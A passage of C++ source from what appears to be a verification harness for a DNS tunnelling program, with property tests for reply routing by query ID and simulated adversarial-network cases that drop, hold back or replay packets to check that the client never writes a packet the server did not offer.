				if (n >= 2 && rr[0] == 0 && rr[1] == 0 && t.chance(2, 3)) rr[1] = 7;
				reply = rr; id = n >= 2 ? (uint16_t)((rr[0] << 8) | rr[1]) : 0; n_runt++;
			}
			std::vector<size_t> before(nreq); for (int k = 0; k < nreq; k++) before[k] = inbox[k].size();
			sim::Datagram dg; dg.src = resolver; dg.dst = at_resolver.empty() ? sim::Addr::v4(192, 0, 2, 1, 40000) : at_resolver.back().first; dg.data = reply;
			int copies = 1 + (int)t.pick({5, 1});
			for (int cc = 0; cc < copies; cc++) sim::W.send(dg);
			sim::W.run_for(4000);
			n_replies++;
			std::vector<int> cand;
			for (auto &f : ring) if (f.id == id) cand.push_back(f.requester);
			int total = 0; std::vector<int> who;
			for (int k = 0; k < nreq; k++) for (size_t i = before[k]; i < inbox[k].size(); i++) { total++; who.push_back(k); if (inbox[k][i].data != reply) r.fail("C20:reply-changed", fmt("requester%d received a reply that differs from what the local DNS server sent", k)); }
			note(fmt("resolver replies id=%u x%d -> delivered to %d requester datagrams; model candidates %zu", id, copies, total, cand.size()));
			if (runt) {
				for (int k : who) if (reply.size() < 2 || std::find(cand.begin(), cand.end(), k) == cand.end())
					r.fail("C20:runt-delivered", fmt("a %zu-byte datagram from the local DNS port (%s), too short to be a DNS message, was sent to requester%d (%s), whose queries it answers none of (first two bytes as id: %u)", reply.size(), hexs(reply, 12).c_str(), k, req[k].str().c_str(), id));
			} else if (cand.empty()) {
				n_unmatched++;
				if (total) r.fail("C20:unmatched-reply-delivered", fmt("a reply with id %u, which matches none of the 16 most recently forwarded queries, was sent to requester%d (%s)", id, who[0], req[who[0]].str().c_str()));
			} else {
				for (int k : who) if (std::find(cand.begin(), cand.end(), k) == cand.end())
					r.fail("C20:misrouted", fmt("reply id %u was sent to requester%d (%s), who did not ask with that id among the last 16 forwarded queries", id, k, req[k].str().c_str()));
				if (total == 0) r.fail("C20:reply-lost", fmt("reply id %u matches a forwarded query of requester%d but was sent to nobody", id, cand[0]));
				if (total > copies) r.fail("C20:reply-multiplied", fmt("%d copies of reply id %u produced %d datagrams to requesters", copies, id, total));
				n_relayed += total;
				outstanding = std::max(0, outstanding - 1);
			}
			break;
		}
		default:
			if (tunnel_up) { sc.send_ping(); sim::W.run_for(3000); note("tunnel ping"); }
			else sim::W.run_for(1000 * t.below(2000));
			break;
		}
		if (!r.ok) break;
	}
	r.render = fmt("system: requesters=%d (%d IPv6) ids=%d actions=%d forwarded=%zu replies=%d relayed=%d unmatched=%d id-reuse=%d over-16-outstanding=%d tunnel=%d", nreq, n_v6, nids, nact, all.size(), n_replies, n_relayed, n_unmatched, n_reuse, n_over16, (int)tunnel_up) + trace.substr(0, 1200);
	if (sim::W.livelock) r.fail("C20:livelock", "simulation did not make progress");
	if (s.srv->state == sim::ST_EXITED) r.fail("C20:server-exited", "server exited: " + s.srv->log.substr(0, 300));
	if (v.failed("C10")) r.fail(v.first["C10"].sig, v.first["C10"].why);
	if (!r.ok) r.why += "\n" + r.render;
	r.nontrivial = n_over16 >= 1 && n_reuse >= 1 && n_unmatched >= 1;
	r.cls("system");
	if (n_v6) r.cls("ipv6-requester");
	if (n_over16) r.cls(">16-outstanding");
	if (n_reuse) r.cls("id-reuse");
	if (n_unmatched) r.cls("unmatched-reply");
	if (n_big) r.cls("reply-padded-to-a-large-size");
	if (n_runt) r.cls("runt-datagram-from-the-local-dns-port");
	if (n_longname) r.cls("query-name-of-200-to-253-characters");
	if (n_hdronly) r.cls("header-only-reply");
	return r;
}

// ---- unit: fw_query_put/get vs the "last 16" model
struct ModelEnt { uint16_t id; int who; };
static std::string unit_step_check(std::deque<ModelEnt> &model, bool put, uint16_t id, int who)
{
	struct sockaddr_in sa; memset(&sa, 0, sizeof sa); sa.sin_family = AF_INET; sa.sin_port = htons((uint16_t)(1000 + who)); sa.sin_addr.s_addr = htonl(0x0a000000u + who);
	if (put) { v_fw_put(id, &sa, sizeof sa); model.push_back(ModelEnt{id, who}); if (model.size() > 16) model.pop_front(); return ""; }
	struct sockaddr_storage out; int outlen = 0; memset(&out, 0, sizeof out);
	int found = v_fw_get(id, &out, &outlen);
	std::vector<int> cand; for (auto &e : model) if (e.id == id) cand.push_back(e.who);
	if (found && outlen == 0) found = 0;   // an empty slot (id 0, no address): nothing can be sent to it
	if (cand.empty()) return found ? fmt("get(%u) returned an entry although none of the last 16 puts has that id", id) : "";
	if (!found) return fmt("get(%u) found nothing although one of the last 16 puts has that id", id);
	int gw = ntohs(((struct sockaddr_in *)&out)->sin_port) - 1000;
	if (std::find(cand.begin(), cand.end(), gw) == cand.end()) return fmt("get(%u) returned the address of requester %d, who never used that id among the last 16 puts", id, gw);
	return "";
}

static CaseResult unit_case(Tape &t)
{
	CaseResult r;
	v_fw_init();
	std::deque<ModelEnt> model;
	int n = t.range(1, 120), nids = t.range(2, 24);
	int puts = 0;
	for (int i = 0; i < n; i++) {
		bool put = t.chance(3, 5);
		uint16_t id = (uint16_t)(t.chance(1, 15) ? 0 : 1 + t.below((uint32_t)nids));
		std::string e = unit_step_check(model, put, id, (int)t.below(6));
		puts += put;
		if (!e.empty()) { r.fail("C20:unit-model", e + fmt(" (step %d of %d)", i, n)); break; }
	}
	r.render = fmt("unit: %d operations, %d puts, %d ids", n, puts, nids);
	r.nontrivial = puts > 16;
	r.cls("unit");
	return r;
}

static CaseResult run_case(Tape &t) { return t.pick({1, 2}) == 0 ? unit_case(t) : system_case(t); }

// exhaustive to a bounded depth: every prefix length 0..20 of distinct-id puts, followed by every sequence of
// `depth` operations over put(id in {0,1,2}, requester in {0,1}) and get(id in {0,1,2,3})
static bool exhaustive(Stats &st, std::string &msg)
{
	const int depth = 5;
	uint64_t n = 0;
	for (int prefix = 0; prefix <= 20; prefix++) {
		if (prefix % enum_parts != enum_part) continue;
		uint64_t total = 1; for (int d = 0; d < depth; d++) total *= 10;
		for (uint64_t code = 0; code < total; code++) {
			v_fw_init();
			std::deque<ModelEnt> model;
			for (int k = 0; k < prefix; k++) unit_step_check(model, true, (uint16_t)(100 + k), 2 + k % 4);
			uint64_t c = code; bool nt = false;
			for (int d = 0; d < depth; d++) {
				int op = (int)(c % 10); c /= 10;
				std::string e;
				if (op < 6) e = unit_step_check(model, true, (uint16_t)(op % 3), op / 3);
				else { e = unit_step_check(model, false, (uint16_t)(op - 6), 0); nt = true; }
				if (!e.empty()) { msg = "C20:unit-model: " + e + fmt(" [prefix %d puts, op code %llu]", prefix, (unsigned long long)code); return false; }
			}
			// finally look up every prefix id
			for (int k = 0; k < prefix; k++) { std::string e = unit_step_check(model, false, (uint16_t)(100 + k), 0); if (!e.empty()) { msg = "C20:unit-model: " + e + fmt(" [prefix %d puts, op code %llu]", prefix, (unsigned long long)code); return false; } }
			uint64_t key[2] = {(uint64_t)prefix, code};
			st.add_enum(fnv(key, sizeof key), nt && prefix + depth > 16, "enum:fw_query");
			n++;
		}
	}
	st.extra["enumerated_sequences"] = std::to_string(n);
	st.sample("fw_query_put/get: every prefix of 0..20 puts with distinct ids followed by every sequence of 5 operations over put(id 0..2, requester 0..1) / get(id 0..3), then a lookup of every prefix id; compared with the last-16 model", true);
	return true;
}

int main(int argc, char **argv)
{
	PropDef d; d.id = "C20"; d.run = run_case; d.exhaustive = exhaustive; d.tape_scale = 6.0;
	return harness_main(argc, argv, d);
}
