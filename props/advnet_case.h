// advnet_case.h -- real client + real server on an adversarial network (a router that decides by what it forwards: it drops, holds
// back and releases, nothing else).  Used by C01 (integrity) and, with a recovery suffix, by C02 (liveness after such a history).
#pragma once
#include "tunnel_common.h"
#ifndef VERIF_KNOWN_ENABLED_DEFINED
#define VERIF_KNOWN_ENABLED_DEFINED
static inline bool known_enabled(const char *tag) { const char *e = getenv("VERIF_KNOWN"); return e && (!strcmp(e, "1") || strstr(e, tag)); }
#endif

namespace advnet {
using namespace hz;

// Third shape (one case in eight): real client and real server on a network that decides by what it sees (an adversarial but legal
// network: it only drops).  The client has just received a one-fragment packet; the next N downstream packets (N mostly 7, so that the
// server's 3-bit sequence number comes round) are one-fragment packets the server sends once and forgets, all lost together with the
// first fragment of a crafted two-fragment packet; then the path is clean again.  Every packet the client writes to its tun device must
// be one that was offered on the server's.
inline CaseResult late_answer_case(Tape &t);
inline CaseResult upgiveup_case(Tape &t);
inline CaseResult downwrap_case(Tape &t, bool recover_suffix)
{
	if (t.chance(1, 4) && !recover_suffix) return late_answer_case(t);
	CaseResult r;
	scn::Config c;
	static const int QT[] = {1, 3, 2, 4, 5, 6};
	c.qtype = QT[t.pick({4, 3, 1, 2, 2, 2})];
	c.lazy = t.chance(1, 3) ? 0 : 1;
	c.downenc = (int)t.pick({5, 2, 2, 2, 2, 2});
	c.frag = c.qtype == 6 ? t.range(50, 100) : t.range(60, 400);
	int N = (int)(const int[]){7, 7, 7, 15, 6, 8, 3}[t.below(7)];
	// one case in three: the merge variant (below); it needs immediate mode -- in lazy mode the answer the network has to let through
	// would belong to a query the client no longer counts among its three most recent
	bool merge = t.chance(1, 3);
	if (merge) c.lazy = 0;
	// merge variant: is the new packet's first fragment lost as well?  Then nothing tells the client that the fragment it holds belongs to
	// another packet: known finding K3 (known_findings.json), excluded by construction unless the driver replays the pinned case
	bool lose_b0 = t.chance(1, 2), excluded_k3 = false;
	if (merge && lose_b0 && !known_enabled("K3")) { lose_b0 = false; excluded_k3 = true; }
	c.srv_seed = t.u32() | 1; c.cli_seed = t.u32() | 1;
	scn::Session s(c);
	mon::TunMonitor tm; tm.attach(sim::W);
	s.start_server(); s.start_client(0);
	bool dropping = false; int n_data_dropped = 0, n_dropped = 0; int Fd = 0; int srv_idx = 0;
	uint64_t t_trouble0 = 0, t_trouble1 = 0;   // first and last moment the network withheld a datagram
	bool hold_up = false, drop_up = false; int pass_up = 0, n_first_frags_passed = 0; std::vector<sim::Datagram> held;
	sim::W.router = [&](const sim::Datagram &dg) {
		if (dg.from_inst != srv_idx && dg.from_inst >= 1) {
			if (pass_up > 0) { pass_up--; if (pass_up == 0) drop_up = true; }
			else if (hold_up) { held.push_back(dg); if (!t_trouble0) t_trouble0 = sim::W.now; t_trouble1 = sim::W.now; return; }
			else if (drop_up) { if (!t_trouble0) t_trouble0 = sim::W.now; t_trouble1 = sim::W.now; return; }
		}
		if (dg.from_inst == srv_idx) {
			refproto::Answer a; refproto::DownHdr h;
			bool data = refproto::decode_answer(dg.data, a) && a.ok && a.payload.size() > 2 && !a.qname.empty() && (a.qname[0] == 'p' || a.qname[0] == 'P' || isdigit((unsigned char)a.qname[0]) || (a.qname[0] >= 'a' && a.qname[0] <= 'f') || (a.qname[0] >= 'A' && a.qname[0] <= 'F')) && refproto::down_header(a.payload, h);
			if (data && !h.last && h.dn_frag == 0 && (int)a.payload.size() - 2 > Fd) Fd = (int)a.payload.size() - 2;
			if (dropping) { n_dropped++; if (data) n_data_dropped++; if (!t_trouble0) t_trouble0 = sim::W.now; t_trouble1 = sim::W.now; return; }
			if (data && !h.last && h.dn_frag == 0) n_first_frags_passed++;
		}
		sim::W.deliver_after(dg, sim::W.latency_us);
	};
	srv_idx = s.srv->idx;
	bool up = s.wait_all(150);
	r.render = "adversarial network, downstream sequence-number wrap: " + c.describe();
	if (sim::W.livelock) r.fail("C01:livelock", "simulation did not make progress");
	r.cls("adversarial-network");
	if (!up) { r.cls("handshake-failed"); return r; }
	Bytes sip = s.server_tun_ip(), cip = sip;
	for (auto &cmd : s.cli[0]->system_calls) {
		unsigned a, b, cc, d; size_t p = cmd.find("ifconfig ");
		if (p != std::string::npos && sscanf(cmd.c_str() + p, "ifconfig %*s %u.%u.%u.%u", &a, &b, &cc, &d) == 4) { cip = Bytes{(uint8_t)a, (uint8_t)b, (uint8_t)cc, (uint8_t)d}; break; }
	}
	std::vector<Bytes> offered;
	auto offer = [&](const Bytes &pkt) { offered.push_back(pkt); sim::W.offer_tun(s.srv, pkt); };
	auto incompressible = [&](size_t n, uint32_t seed) { Bytes b(n); uint32_t x = seed | 1; for (auto &v : b) { x ^= x << 13; x ^= x >> 17; x ^= x << 5; v = (uint8_t)(x >> 11); } return b; };
	// C02 only: after the adversarial history the path is clean; 12 packets are offered each way, the last 4 of each direction must arrive
	// (as in C02's recover mode: the first ones may be lost while both ends resynchronise their sequence numbers)
	auto recover = [&]() {
		if (!recover_suffix) return;
		// C02 speaks of trouble shorter than the 60 s session timeout (after 60 s without downstream data the client gives up by design)
		if (t_trouble1 - t_trouble0 > 50000000) { r.cls("trouble-longer-than-50s:not-judged"); r.nontrivial = false; return; }
		std::vector<Bytes> up_last, dn_last;
		for (int i = 0; i < 24; i++) {
			bool down = i & 1;
			Bytes body(40 + 7 * i); for (size_t k = 0; k < body.size(); k++) body[k] = (uint8_t)(k * 13 + i);
			Bytes pkt = scn::tun_packet(down ? cip : sip, down ? sip : cip, body, (uint16_t)(60000 + i));
			if (down) offer(pkt); else sim::W.offer_tun(s.cli[0], pkt);
			if (i >= 16) (down ? dn_last : up_last).push_back(pkt);
			sim::W.run_for(1000000);
		}
		sim::W.run_for(10000000);
		if (s.cli[0]->state == sim::ST_EXITED || s.srv->state == sim::ST_EXITED) { r.fail("C02:exited", "a program exited after the adversarial history\n" + r.render); return; }
		auto wrote = [&](int inst, const Bytes &p) { for (auto &w : tm.writes_of(inst)) if (w.data == p) return true; return false; };
		for (auto &p : dn_last) if (r.ok && !wrote(s.cli[0]->idx, p)) r.fail("C02:no-recovery-downstream", scn::fmt("after the adversarial history (clean path again) a %zu-byte packet offered on the server's tun device never reached the client's", p.size()) + "\n" + r.render);
		for (auto &p : up_last) if (r.ok && !wrote(s.srv->idx, p)) r.fail("C02:no-recovery-upstream", scn::fmt("after the adversarial history (clean path again) a %zu-byte packet offered on the client's tun device never reached the server's", p.size()) + "\n" + r.render);
	};
	sim::W.run_for(2000000);
	// calibration: a three-fragment packet shows the fragment size the server really uses
	offer(scn::tun_packet(cip, sip, incompressible((size_t)c.frag * 2 + 30, 77), 0x4000));
	sim::W.run_for(8000000);
	if (Fd < 40) { r.cls("no-calibration"); return r; }
	// a one-fragment packet: the client's downstream position is now (s, fragment 0), nothing stored
	offer(scn::tun_packet(cip, sip, Bytes(16, 0x33), 0x4001));
	sim::W.run_for(6000000);
	// ---- merge variant, phase A: the client ends up holding the first fragment of a packet A that the server has given up
	Bytes mA, mB; bool phaseA = false;
	if (merge) {
		Bytes pre = scn::tun_packet(cip, sip, incompressible((size_t)Fd - 7 - 24, t.u32()), 0x4300);   // exactly the bytes of the first fragment
		if ((int)pre.size() == Fd - 7) {
			Bytes pre2 = pre; bool ok = false;
			for (size_t k = 30; k + 3 < pre2.size(); k++) if (pre2[k] < 255 && pre2[k + 1] >= 2 && pre2[k + 2] < 255) { pre2[k]++; pre2[k + 1] -= 2; pre2[k + 2]++; ok = true; break; }
			mA = pre; mB = pre2;
			Bytes ta = incompressible(40, 91), tb = incompressible(40, 92);
			mA.insert(mA.end(), ta.begin(), ta.end()); mB.insert(mB.end(), tb.begin(), tb.end());
			Bytes za = refproto::zcompress(mA), zb = refproto::zcompress(mB);
			ok = ok && za.size() == mA.size() + 11 && zb.size() == mB.size() + 11 && !memcmp(za.data() + 7, mA.data(), mA.size()) && !memcmp(zb.data() + 7, mB.data(), mB.size()) && (int)za.size() <= 2 * Fd;
			if (ok) {
				hold_up = true;                                   // six or more of the client's queries are held up somewhere
				for (int w = 0; w < 400 && held.size() < 6; w++) sim::W.run_for(100000);
				if (held.size() >= 6) {
					offer(mA);
					sim::W.run_for(50000);
					int before = n_first_frags_passed;
					hold_up = false; pass_up = 1;                    // the next query gets through at once, and its answer (A's first fragment) too
					for (int w = 0; w < 100 && n_first_frags_passed == before; w++) sim::W.run_for(50000);
					if (n_first_frags_passed == before + 1) {
						sim::W.run_for(20000);
						dropping = true;                              // from now on every answer is lost ...
						drop_up = true;                               // ... and so are the client's new queries, which acknowledge the fragment,
						for (auto &h : held) { sim::W.deliver_after(h, sim::W.latency_us); sim::W.run_for(30000); }   // while the held-up ones arrive: stale acknowledgements, the server re-sends and gives up
						held.clear();
						sim::W.run_for(200000);
						drop_up = false;
						phaseA = true;
					}
				}
				hold_up = false; if (!phaseA) { drop_up = false; pass_up = 0; for (auto &h : held) sim::W.deliver_after(h, sim::W.latency_us); held.clear(); }
			}
		}
		if (!phaseA) merge = false;
		if (merge) N = 7;
	}
	dropping = true;
	bool paced = true;
	for (int i = 0; i < N && paced; i++) {
		int before = n_data_dropped;
		offer(scn::tun_packet(cip, sip, Bytes(12 + i, (uint8_t)(0x40 + i)), (uint16_t)(0x4100 + i)));
		for (int w = 0; w < 120 && n_data_dropped == before; w++) sim::W.run_for(100000);
		if (n_data_dropped != before + 1) paced = false;
	}
	if (merge && paced) {
		int before = n_data_dropped;
		if (!lose_b0) dropping = false;                       // the path is clean again before the new packet starts
		offer(mB);
		for (int w = 0; w < 120 && n_data_dropped == before && lose_b0; w++) sim::W.run_for(100000);
		bool sentB = !lose_b0 || n_data_dropped == before + 1;
		dropping = false;
		sim::W.run_for(15000000);
		recover();
		r.render += scn::fmt(" | merge variant: Fd=%d first fragment of A delivered, A given up, 7 one-fragment packets and B's first fragment lost=%d; answers dropped=%d (with data %d)", Fd, (int)sentB, n_dropped, n_data_dropped);
		if (sim::W.livelock) r.fail("C01:livelock", "simulation did not make progress");
		if (!recover_suffix) for (auto &w : tm.writes_of(s.cli[0]->idx)) if (std::find(offered.begin(), offered.end(), w.data) == offered.end()) {
			r.fail(lose_b0 ? "C01:merged-downstream-first-fragment-lost" : "C01:merged-downstream-after-wrap", scn::fmt("the client wrote a %zu-byte packet to its tun device that was never offered on the server's: %s", w.data.size(), hexs(w.data, 48).c_str()) + "\n" + r.render);
			break;
		}
		r.nontrivial = sentB;
		if (sentB) r.cls("downstream-merge-after-given-up-first-fragment");
		if (excluded_k3) r.cls("excluded-known:K3-new-first-fragment-lost-too");
		return r;
	}
	Bytes Q = scn::tun_packet(cip, sip, Bytes(20, 0x51), 0x5100);
	Bytes zq = refproto::zcompress(Q);
	Bytes P = scn::tun_packet(cip, sip, incompressible((size_t)Fd - 7 - 24, t.u32()), 0x4200);
	bool crafted = false;
	if (paced && (int)P.size() == Fd - 7) {
		P.insert(P.end(), zq.begin(), zq.end());
		Bytes tail = incompressible(24, 5); P.insert(P.end(), tail.begin(), tail.end());
		Bytes zp = refproto::zcompress(P);
		if (zp.size() == P.size() + 11 && !memcmp(zp.data() + 7, P.data(), P.size()) && (int)zp.size() <= 2 * Fd) {
			int before = n_data_dropped;
			offer(P);
			for (int w = 0; w < 120 && n_data_dropped == before; w++) sim::W.run_for(100000);
			crafted = n_data_dropped == before + 1;
		}
	}
	dropping = false;
	sim::W.run_for(15000000);
	recover();
	r.render += scn::fmt(" | Fd=%d N=%d paced=%d crafted=%d answers dropped=%d (with data %d)", Fd, N, (int)paced, (int)crafted, n_dropped, n_data_dropped);
	if (sim::W.livelock) r.fail("C01:livelock", "simulation did not make progress");
	if (!recover_suffix) for (auto &w : tm.writes_of(s.cli[0]->idx)) {
		if (std::find(offered.begin(), offered.end(), w.data) == offered.end()) {
			r.fail("C01:fabricated-downstream-after-wrap", scn::fmt("the client wrote a %zu-byte packet to its tun device that was never offered on the server's: %s", w.data.size(), hexs(w.data, 48).c_str()) + "\n" + r.render);
			break;
		}
	}
	r.nontrivial = crafted;
	if (crafted) r.cls(N % 8 == 7 ? "downstream-sequence-number-wrap-with-crafted-packet" : "downstream-loss-burst-without-wrap");
	return r;
}



// Fourth shape (one adversarial-network case in four): nothing is lost.  The network duplicates one answer -- the one carrying the second
// and last fragment of a two-fragment packet A -- and holds the copy back while everything else flows; eight downstream packets later the
// server's 3-bit sequence number has come round, and the copy is released right behind the first fragment of packet B (same sequence
// number, first fragment Adler-32-equivalent to A's).  The client must not take the late answer for B's second fragment (it only reads
// answers to its three most recent queries); every packet it writes to its tun device must be one that was offered on the server's.
inline CaseResult late_answer_case(Tape &t)
{
	if (t.chance(1, 2)) return upgiveup_case(t);
	CaseResult r;
	scn::Config c;
	static const int QT[] = {1, 3, 2, 4, 5, 6};
	c.qtype = QT[t.pick({4, 3, 1, 2, 2, 2})];
	c.lazy = t.chance(1, 2) ? 0 : 1;
	c.downenc = (int)t.pick({5, 2, 2, 2, 2, 2});
	c.frag = c.qtype == 6 ? t.range(50, 100) : t.range(60, 400);
	int between = (int)(const int[]){7, 7, 7, 7, 15, 6, 8}[t.below(7)];
	c.srv_seed = t.u32() | 1; c.cli_seed = t.u32() | 1;
	scn::Session s(c);
	mon::TunMonitor tm; tm.attach(sim::W);
	s.start_server(); s.start_client(0);
	int Fd = 0, srv_idx = 0; bool arm = false, have_copy = false, release_on_first = false, released = false; sim::Datagram copy;
	sim::W.router = [&](const sim::Datagram &dg) {
		if (dg.from_inst == srv_idx) {
			refproto::Answer a; refproto::DownHdr h;
			bool data = refproto::decode_answer(dg.data, a) && a.ok && a.payload.size() > 2 && !a.qname.empty() && (a.qname[0] == 'p' || a.qname[0] == 'P' || isdigit((unsigned char)a.qname[0]) || (a.qname[0] >= 'a' && a.qname[0] <= 'f') || (a.qname[0] >= 'A' && a.qname[0] <= 'F')) && refproto::down_header(a.payload, h);
			if (data && !h.last && h.dn_frag == 0 && (int)a.payload.size() - 2 > Fd) Fd = (int)a.payload.size() - 2;
			if (arm && !have_copy && data && h.last && h.dn_frag == 1) { copy = dg; have_copy = true; }
			if (release_on_first && have_copy && data && !h.last && h.dn_frag == 0) {
				sim::W.deliver_after(dg, sim::W.latency_us);
				sim::W.deliver_after(copy, sim::W.latency_us + 200);
				release_on_first = false; released = true;
				return;
			}
		}
		sim::W.deliver_after(dg, sim::W.latency_us);
	};
	srv_idx = s.srv->idx;
	bool up = s.wait_all(150);
	r.render = "adversarial network, late copy of a downstream answer: " + c.describe();
	if (sim::W.livelock) r.fail("C01:livelock", "simulation did not make progress");
	r.cls("adversarial-network");
	if (!up) { r.cls("handshake-failed"); return r; }
	Bytes sip = s.server_tun_ip(), cip = sip;
	for (auto &cmd : s.cli[0]->system_calls) {
		unsigned a, b, cc, d; size_t p = cmd.find("ifconfig ");
		if (p != std::string::npos && sscanf(cmd.c_str() + p, "ifconfig %*s %u.%u.%u.%u", &a, &b, &cc, &d) == 4) { cip = Bytes{(uint8_t)a, (uint8_t)b, (uint8_t)cc, (uint8_t)d}; break; }
	}
	std::vector<Bytes> offered;
	auto offer = [&](const Bytes &pkt) { offered.push_back(pkt); sim::W.offer_tun(s.srv, pkt); };
	auto incompressible = [&](size_t n, uint32_t seed) { Bytes b(n); uint32_t x = seed | 1; for (auto &v : b) { x ^= x << 13; x ^= x >> 17; x ^= x << 5; v = (uint8_t)(x >> 11); } return b; };
	sim::W.run_for(2000000);
	offer(scn::tun_packet(cip, sip, incompressible((size_t)c.frag * 2 + 30, 77), 0x4000));   // calibration: the fragment size the server really uses
	sim::W.run_for(8000000);
	if (Fd < 40) { r.cls("no-calibration"); return r; }
	Bytes pre = scn::tun_packet(cip, sip, incompressible((size_t)Fd - 7 - 24, t.u32()), 0x4300);
	if ((int)pre.size() != Fd - 7) { r.cls("no-calibration"); return r; }
	Bytes mA = pre, mB = pre; bool ok = false;
	for (size_t k = 30; k + 3 < mB.size(); k++) if (mB[k] < 255 && mB[k + 1] >= 2 && mB[k + 2] < 255) { mB[k]++; mB[k + 1] -= 2; mB[k + 2]++; ok = true; break; }
	Bytes ta = incompressible(40, 91), tb = incompressible(40, 92);
	mA.insert(mA.end(), ta.begin(), ta.end()); mB.insert(mB.end(), tb.begin(), tb.end());
	Bytes za = refproto::zcompress(mA), zb = refproto::zcompress(mB);
	ok = ok && za.size() == mA.size() + 11 && zb.size() == mB.size() + 11 && !memcmp(za.data() + 7, mA.data(), mA.size()) && !memcmp(zb.data() + 7, mB.data(), mB.size()) && (int)za.size() <= 2 * Fd;
	if (!ok) { r.cls("no-calibration"); return r; }
	arm = true; offer(mA); sim::W.run_for(4000000); arm = false;
	for (int i = 0; i < between; i++) { offer(scn::tun_packet(cip, sip, Bytes(12 + i, (uint8_t)(0x40 + i)), (uint16_t)(0x4100 + i))); sim::W.run_for(1500000 + t.below(1500000)); }
	release_on_first = true; offer(mB); sim::W.run_for(6000000); release_on_first = false;
	sim::W.run_for(4000000);
	r.render += scn::fmt(" | Fd=%d packets in between=%d copy taken=%d released behind a first fragment=%d", Fd, between, (int)have_copy, (int)released);
	if (sim::W.livelock) r.fail("C01:livelock", "simulation did not make progress");
	for (auto &w : tm.writes_of(s.cli[0]->idx)) if (std::find(offered.begin(), offered.end(), w.data) == offered.end()) {
		r.fail("C01:merged-late-downstream-fragment-after-wrap", scn::fmt("the client wrote a %zu-byte packet to its tun device that was never offered on the server's: %s", w.data.size(), hexs(w.data, 48).c_str()) + "\n" + r.render);
		break;
	}
	r.nontrivial = released && between % 8 == 7;
	if (released) r.cls(between % 8 == 7 ? "late-copy-of-a-downstream-answer-eight-packets-on" : "late-copy-of-a-downstream-answer-without-wrap");
	r.cls(c.lazy ? "lazy" : "immediate");
	return r;
}

// Upstream give-up game (real client, real server; the network drops and holds back, nothing else).  The client sends the first
// fragment of a two-fragment packet A, which arrives; every answer from then on is lost, so the client repeats the fragment, gives A up
// and turns to the next packet B -- whose first fragment differs from A's by three bytes (+1 -2 +1: both Adler-32 sums unchanged) and
// whose tail is different.  The queries carrying B's first fragment are lost; one of the answers that acknowledged A's first fragment
// arrives late.  A client that numbers B like A takes that for the acknowledgement of B's first fragment and sends B's second one, which
// the server appends to the fragment of A it still holds: a packet nobody offered.  A conforming client numbers B with the next
// sequence number and the late acknowledgement means nothing to it.
inline CaseResult upgiveup_case(Tape &t)
{
	CaseResult r;
	scn::Config c;
	static const int QT[] = {1, 3, 2, 4, 5, 6};
	c.qtype = QT[t.pick({4, 3, 1, 2, 2, 2})];
	c.lazy = t.chance(1, 2) ? 0 : 1;
	c.downenc = (int)t.pick({5, 2, 2, 2, 2, 2});
	c.frag = c.qtype == 6 ? t.range(50, 100) : t.range(60, 400);
	if (t.chance(1, 3)) c.maxlen = t.range(120, 255);
	c.srv_seed = t.u32() | 1; c.cli_seed = t.u32() | 1;
	scn::Session s(c);
	mon::TunMonitor tm; tm.attach(sim::W);
	s.start_server(); s.start_client(0);
	int srv_idx = s.srv->idx, up_codec = 0, Fu = 0;
	int phase = 0;   // 0 everything passes, 1 answers are lost (the latest one is kept), 2 as 1 and first fragments other than A's are lost
	bool gaveup = false;
	Bytes a0_chunk; int n_a0 = 0, n_b0_dropped = 0, n_b1 = 0, a_seq = -1, b_seq = -1; bool released = false;
	sim::Datagram kept; bool have_kept = false;
	sim::W.router = [&](const sim::Datagram &dg) {
		if (dg.from_inst == srv_idx) {
			refproto::Answer a;
			if (refproto::decode_answer(dg.data, a) && a.ok && !a.qname.empty() && tolower((unsigned char)a.qname[0]) == 's') {
				std::string pl(a.payload.begin(), a.payload.end());
				if (pl == "Base32") up_codec = 0; else if (pl == "Base64") up_codec = 1; else if (pl == "Base64u") up_codec = 2; else if (pl == "Base128") up_codec = 3;
			}
			if (phase >= 1) { if (n_a0 > 0 && !released) { kept = dg; have_kept = true; } return; }
		} else if (dg.from_inst >= 1) {
			refproto::Query q; refproto::QAck qa;
			bool dq = refproto::decode_query(dg.data, c.domain, q) && refproto::query_ack(q, qa);
			if (dq && qa.is_ping && phase >= 1 && n_a0 >= 4) gaveup = true;   // the ping the client sends when it gives a packet up
			if (dq && qa.is_data && q.rest.size() > 4) {
				Bytes chunk = ref::codec_decode(up_codec, q.rest.substr(4), true);
				if (phase == 0 && !qa.last && (int)chunk.size() > Fu) Fu = (int)chunk.size();
				if (phase >= 1 && qa.up_frag == 0) {
					if (a0_chunk.empty()) { a0_chunk = chunk; a_seq = qa.up_seq; }
					if (chunk == a0_chunk) n_a0++;
					else if (phase == 2) {
						n_b0_dropped++; b_seq = qa.up_seq;
						if (have_kept && !released) { released = true; sim::W.deliver_after(kept, 30000); }   // the late acknowledgement of A's first fragment
						return;
					}
				}
				if (phase == 2 && qa.up_frag == 1) n_b1++;
			}
		}
		sim::W.deliver_after(dg, sim::W.latency_us);
	};
	bool up = s.wait_all(150);
	r.render = "adversarial network, upstream give-up game: " + c.describe();
	if (sim::W.livelock) r.fail("C01:livelock", "simulation did not make progress");
	r.cls("adversarial-network");
	if (!up) { r.cls("handshake-failed"); return r; }
	Bytes sip = s.server_tun_ip(), cip = sip;
	for (auto &cmd : s.cli[0]->system_calls) {
		unsigned a, b, cc, d; size_t p = cmd.find("ifconfig ");
		if (p != std::string::npos && sscanf(cmd.c_str() + p, "ifconfig %*s %u.%u.%u.%u", &a, &b, &cc, &d) == 4) { cip = Bytes{(uint8_t)a, (uint8_t)b, (uint8_t)cc, (uint8_t)d}; break; }
	}
	std::vector<Bytes> offered;
	auto offer = [&](const Bytes &pkt) { offered.push_back(pkt); sim::W.offer_tun(s.cli[0], pkt); };
	auto incompressible = [&](size_t n, uint32_t seed) { Bytes b(n); uint32_t x = seed | 1; for (auto &v : b) { x ^= x << 13; x ^= x >> 17; x ^= x << 5; v = (uint8_t)(x >> 11); } return b; };
	sim::W.run_for(2000000);
	// calibration: a packet of several fragments shows how many bytes a full upstream fragment carries
	offer(scn::tun_packet(sip, cip, incompressible(700, 77), 0x4000));
	sim::W.run_for(8000000);
	if (Fu < 40) { r.cls("no-calibration"); return r; }
	Bytes pre = scn::tun_packet(sip, cip, incompressible((size_t)Fu - 7 - 24, t.u32()), 0x4300);   // exactly the bytes of the first fragment
	bool ok = (int)pre.size() == Fu - 7;
	Bytes mA, mB;
	if (ok) {
		Bytes pre2 = pre; ok = false;
